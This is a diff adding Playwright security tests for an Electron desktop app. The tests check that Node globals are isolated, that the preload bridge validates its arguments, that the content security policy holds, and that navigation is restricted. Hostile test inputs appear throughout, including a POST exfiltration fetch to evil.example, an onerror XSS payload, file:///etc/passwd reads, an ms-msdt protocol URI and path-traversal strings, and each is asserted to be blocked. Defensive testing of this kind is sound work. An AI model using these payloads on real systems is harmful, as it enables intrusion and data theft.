@@ -1,0 +1,195 @@
+/** What hostile content could try from inside the page, and that it comes to nothing. */
+import type { ElectronApplication } from '@playwright/test'
+import { webPreferences } from '#desktop/main/window/web-preferences.ts'
+import { expect, test } from './desktop-test.ts'
+
+test('the page sees neither Node nor Electron, only the named functions of the bridge', async ({
+  launch,
+}) => {
+  const { page } = await launch()
+  const seen = await page.evaluate(() => ({
+    globals: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter(
+      name => name in globalThis,
+    ),
+    bridge: Object.entries(window.customsBrokerDesktop).map(([name, value]) => `${name}: ${typeof value}`),
+  }))
+  expect(seen.globals).toEqual([])
+  expect(seen.bridge.sort()).toEqual(
+    [
+      'changePassword',
+      'checkServer',
+      'chooseServer',
+      'forget',
+      'forgetServer',
+      'notify',
+      'onMenu',
+      'onSessionEnd',
+      'openExternal',
+      'restore',
+      'saveFile',
+      'setUnread',
+      'signIn',
+      'signOut',
+      'status',
+    ].map(name => `${name}: function`),
+  )
+})
+
+test('the live window has the preferences that the checklist asks for', async ({ launch }) => {
+  const { app } = await launch()
+  const live = await app.evaluate(({ BrowserWindow }) => {
+    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
+      getLastWebPreferences(): Record<string, unknown>
+    }
+    return { ...contents.getLastWebPreferences(), preload: '' }
+  })
+  expect(live).toMatchObject({ ...webPreferences(''), preload: '' })
+})
+
+test('a frame inside the page finds no bridge', async ({ launch }) => {
+  const { page } = await launch()
+  await page.evaluate(() => {
+    const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<p>hostile</p>' })
+    frame.sandbox.add('allow-scripts')
+    document.body.append(frame)
+  })
+  await expect.poll(() => page.frames().length).toBe(2)
+  const seen = await page
+    .frames()[1]
+    ?.evaluate(() =>
+      ['customsBrokerDesktop', 'require', 'process', '__standInToMain'].filter(name => name in globalThis),
+    )
+  expect(seen).toEqual([])
+})
+
+test('the bridge refuses arguments of another shape', async ({ launch }) => {
+  const { page } = await launch()
+  const results = await page.evaluate(async () => {
+    const bridge = window.customsBrokerDesktop as unknown as Record<
+      string,
+      (...args: unknown[]) => Promise<unknown>
+    >
+    const attempts: [string, unknown[]][] = [
+      ['openExternal', [['https://a.example']]],
+      ['saveFile', ['../../x', 'text']],
+      ['setUnread', [-1]],
+      ['signIn', [{ email: 'a', password: 'b', role: 'owner' }]],
+      ['notify', [{ title: 't', body: 'b', path: '/admin', icon: 'file:///etc/passwd' }]],
+      ['checkServer', [null]],
+    ]
+    return Promise.all(
+      attempts.map(async ([name, args]) => {
+        try {
+          await bridge[name]?.(...args)
+          return `${name} passed`
+        } catch (cause) {
+          return String(cause).includes('Refused') ? 'refused' : String(cause)
+        }
+      }),
+    )
+  })
+  expect(results).toEqual(results.map(() => 'refused'))
+})
+
+test('inline script, foreign script, frames and connections elsewhere are stopped by the policy', async ({
+  launch,
+}) => {
+  const { page } = await launch()
+  await page.evaluate(() => {
+    const violations: string[] = []
+    Object.assign(globalThis, { violations })
+    document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective))
+    const add = (make: () => HTMLElement) => document.body.append(make())
+    add(() => Object.assign(document.createElement('script'), { textContent: 'globalThis.hacked = 1' }))
+    add(() => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))
+    add(() => Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
+    const box = document.createElement('div')
+    box.innerHTML = '<img src=x onerror="globalThis.hacked = 2"><img src="https://evil.example/track.png">'
+    add(() => box)
+    fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined)
+  })
+  await expect
+    .poll(() => page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations))
+    .toEqual(
+      expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem']),
+    )
+  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
+})
+
+test('the window stays on its own pages; only allowed links reach the browser', async ({ launch }) => {
+  const { app, page } = await launch()
+  await recordOpened(app)
+  const before = page.url()
+  // The engine itself stops the first without a word; the others are told to main, in this order.
+  for (const address of ['file:///etc/passwd', '/api/version', 'https://bank.gov.ua/ua/markets']) {
+    await page.evaluate(at => location.assign(at), address)
+    if (!address.startsWith('file:')) await expect.poll(() => asked(app)).toContain(lastPart(address))
+  }
+  await expect.poll(() => opened(app)).toEqual(['https://bank.gov.ua/ua/markets'])
+  expect(page.url()).toBe(before)
+  await page.evaluate(() => {
+    window.open('https://broker.example/opened')
+    window.open('ms-msdt:/id PCWDiagnostic')
+    window.open('about:blank')
+    const link = Object.assign(document.createElement('a'), {
+      href: 'https://broker.example/link',
+      target: '_blank',
+    })
+    document.body.append(link)
+    link.click()
+  })
+  await expect
+    .poll(() => opened(app))
+    .toEqual([
+      'https://bank.gov.ua/ua/markets',
+      'https://broker.example/opened',
+      'https://broker.example/link',
+    ])
+  expect(app.windows()).toHaveLength(1)
+  const answers = await page.evaluate(() =>
+    Promise.all(
+      ['mailto:office@broker.example', 'javascript:alert(1)', 'smb://server/share', 'http://a.example'].map(
+        address => window.customsBrokerDesktop.openExternal(address),
+      ),
+    ),
+  )
+  expect(answers).toEqual([true, false, false, false])
+  expect((await opened(app)).at(-1)).toBe('mailto:office@broker.example')
+})
+
+test('paths that lead out of the program find nothing', async ({ launch }) => {
+  const { page } = await launch()
+  const statuses = await page.evaluate(() =>
+    Promise.all(
+      [
+        '/..%2f..%2fpackage.json',
+        '/assets/..%5c..%5cmain%5cmain.js',
+        '/%2e%2e/main/main.js',
+        '/etc/passwd',
+      ].map(path => fetch(path).then(answer => answer.status)),
+    ),
+  )
+  expect(statuses).toEqual([404, 404, 404, 404])
+})
+
+const recordOpened = (app: ElectronApplication) =>
+  app.evaluate(({ BrowserWindow, shell }) => {
+    const list: string[] = []
+    const wanted: string[] = []
+    Object.assign(globalThis, { openedByTest: list, wantedByPage: wanted })
+    BrowserWindow.getAllWindows()[0]?.webContents.on('will-navigate', details => {
+      wanted.push(details.url.split('/').at(-1) ?? '')
+    })
+    shell.openExternal = async address => {
+      list.push(address)
+    }
+  })
+
+/** The last parts of the addresses that the page wanted to go to. */
+const asked = (app: ElectronApplication): Promise<string[]> =>
+  app.evaluate(() => (globalThis as unknown as { wantedByPage: string[] }).wantedByPage)
+
+const lastPart = (address: string): string => address.split('/').at(-1) ?? ''
+
+const opened = (app: ElectronApplication): Promise<string[]> =>
+  app.evaluate(() => (globalThis as unknown as { openedByTest: string[] }).openedByTest)
